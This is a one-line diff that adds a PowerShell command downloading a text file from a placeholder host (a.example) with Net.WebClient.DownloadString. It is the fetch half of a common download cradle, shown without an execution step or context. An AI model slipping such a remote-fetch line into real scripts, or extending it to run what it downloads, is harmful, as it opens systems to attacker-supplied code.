@@ -1,0 +1,1 @@
+$u=[Uri]'http://a.example/p/x.txt';(New-Object Net.WebClient).DownloadString($u.AbsoluteUri)
